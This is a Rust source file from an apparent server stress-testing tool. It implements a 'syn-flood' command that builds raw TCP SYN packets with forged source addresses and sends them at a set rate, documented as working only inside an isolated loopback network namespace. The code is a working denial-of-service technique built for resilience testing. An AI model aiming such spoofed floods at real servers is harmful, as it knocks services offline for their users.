//! SYN segments from forged addresses, whose answers find nobody (RFC 4987, section 2).

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddrV4};

use clap::Args;

use super::start::DRAIN;
use crate::context::{Common, Context, Protocol, SetupError};
use crate::guard::{Forger, NOBODY, NOBODYS};
use crate::outcome::Outcome;
use crate::pacing::{self, Start};

/// SYN segments from forged addresses that never answer
///
/// A start is one SYN as any client sends it, with options, from a further address of 198.18.0.0/15 each time. What the
/// server answers finds nobody, who neither goes on nor refuses: the connection stays half open in its kernel.
///
/// It takes a network namespace in which no interface but loopback is up, whose root this program is, and a way for the
/// answers: `ip route add 198.18.0.0/15 dev lo`. Everywhere else nothing is sent.
#[derive(Args, Clone, Debug)]
#[command(after_long_help = "Examples, the first three once:
  unshare --user --map-root-user --net
  ip link set lo up
  ip route add 198.18.0.0/15 dev lo
  gauntlet-attacker syn-flood --target 127.0.0.1:4433 --protocol h2 --rate 10000 --seconds 30")]
pub struct SynFlood {
    #[command(flatten)]
    common: Common,
}

impl SynFlood {
    /// Runs it.
    ///
    /// # Errors
    /// If it cannot begin, or a line cannot be written.
    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
        if self.common.sources != 1 {
            let why = "each start has a forged address of its own: leave --sources out";
            return Err(SetupError::Options(why.to_owned()));
        }
        let context = Context::new(&self.common, &[Protocol::H1, Protocol::H2])?;
        let forger = Forger::new(context.target)?;
        let first = u32::from_be_bytes(context.random());
        context.begin();
        let mut number = first;
        pacing::run(context.schedule(), &context.tally, DRAIN, out, |due| {
            let from = SocketAddrV4::new(forged(number), port(context.random()));
            let sent = forger.send(&syn(from, forger.to(), context.random(), context.random()));
            context.tally.sent(due);
            context.tally.ended(match sent {
                Ok(octets) => {
                    context.tally.bytes_out(octets);
                    Outcome::Ok
                }
                Err(error) => error.into(),
            });
            number = number.wrapping_add(1);
            Start::Offered
        })
        .await?;
        Ok(())
    }
}

/// The forged address of this number: one after the other in any [`NOBODYS`] numbers that follow each other, scattered.
fn forged(number: u32) -> Ipv4Addr {
    // An odd step meets each address before one comes again; this one is about the golden ratio of them.
    const STEP: u32 = 81_007;
    Ipv4Addr::from_bits(NOBODY.to_bits() + number.wrapping_mul(STEP) % NOBODYS)
}

/// A port that clients have: 1024 or above.
fn port(random: [u8; 2]) -> u16 {
    u16::from_be_bytes(random).max(1024)
}

const IP_OCTETS: usize = 20;
const TCP_OCTETS: usize = 40;

/// A packet with a SYN (RFC 791, section 3.1; RFC 9293, section 3.1): options as Linux has them.
fn syn(
    from: SocketAddrV4,
    to: SocketAddrV4,
    sequence: [u8; 4],
    timestamp: [u8; 4],
) -> [u8; IP_OCTETS + TCP_OCTETS] {
    const TTL: u8 = 64;
    const TCP: u8 = 6;
    const DO_NOT_FRAGMENT: u8 = 0x40;
    const OFFSET: u8 = ((TCP_OCTETS / 4) << 4) as u8;
    const SYN: u8 = 2;
    const WINDOW: [u8; 2] = 64_240_u16.to_be_bytes();
    let mut packet = [0; IP_OCTETS + TCP_OCTETS];
    let (ip, tcp) = packet.split_at_mut(IP_OCTETS);
    ip[0] = 0x45;
    ip[3] = (IP_OCTETS + TCP_OCTETS) as u8;
    ip[6] = DO_NOT_FRAGMENT;
    ip[8] = TTL;
    ip[9] = TCP;
    ip[12..16].copy_from_slice(&from.ip().octets());
    ip[16..20].copy_from_slice(&to.ip().octets());
    tcp[0..2].copy_from_slice(&from.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence);
    tcp[12] = OFFSET;
    tcp[13] = SYN;
    tcp[14..16].copy_from_slice(&WINDOW);
    // MSS 1460, SACK permitted.
    tcp[20..26].copy_from_slice(&[2, 4, 0x05, 0xb4, 4, 2]);
    // Timestamps, nothing to echo.
    tcp[26..28].copy_from_slice(&[8, 10]);
    tcp[28..32].copy_from_slice(&timestamp);
    // A hole, and windows scaled by 7.
    tcp[36..40].copy_from_slice(&[1, 3, 3, 7]);
    let sum = checksum(&ip[12..20], tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// TCP's checksum (RFC 9293, section 3.1) over the two addresses and a segment whose own checksum is 0.
fn checksum(addresses: &[u8], segment: &[u8]) -> u16 {
    let protocol_and_length = [0, 6, 0, segment.len() as u8];
    let octets = [addresses, &protocol_and_length, segment].concat();
    let sum: u32 = octets.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    !(((folded & 0xffff) + (folded >> 16)) as u16)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn no_address_comes_twice_before_all_have_come() {
        let first = u32::MAX - 5;
        let all: BTreeSet<Ipv4Addr> = (0..NOBODYS).map(|it| forged(first.wrapping_add(it))).collect();
        assert_eq!(all.len(), NOBODYS as usize);
        assert_eq!(*all.first().unwrap(), Ipv4Addr::new(198, 18, 0, 0));
        assert_eq!(*all.last().unwrap(), Ipv4Addr::new(198, 19, 255, 255));
    }

    #[test]
    fn a_segment_that_is_whole_sums_to_nothing() {
        let (from, to) = ("198.18.7.9:4000".parse().unwrap(), "127.0.0.1:443".parse().unwrap());
        let packet = syn(from, to, [1, 2, 3, 4], [5, 6, 7, 8]);
        assert_eq!(checksum(&packet[12..20], &packet[IP_OCTETS..]), 0);
    }
}
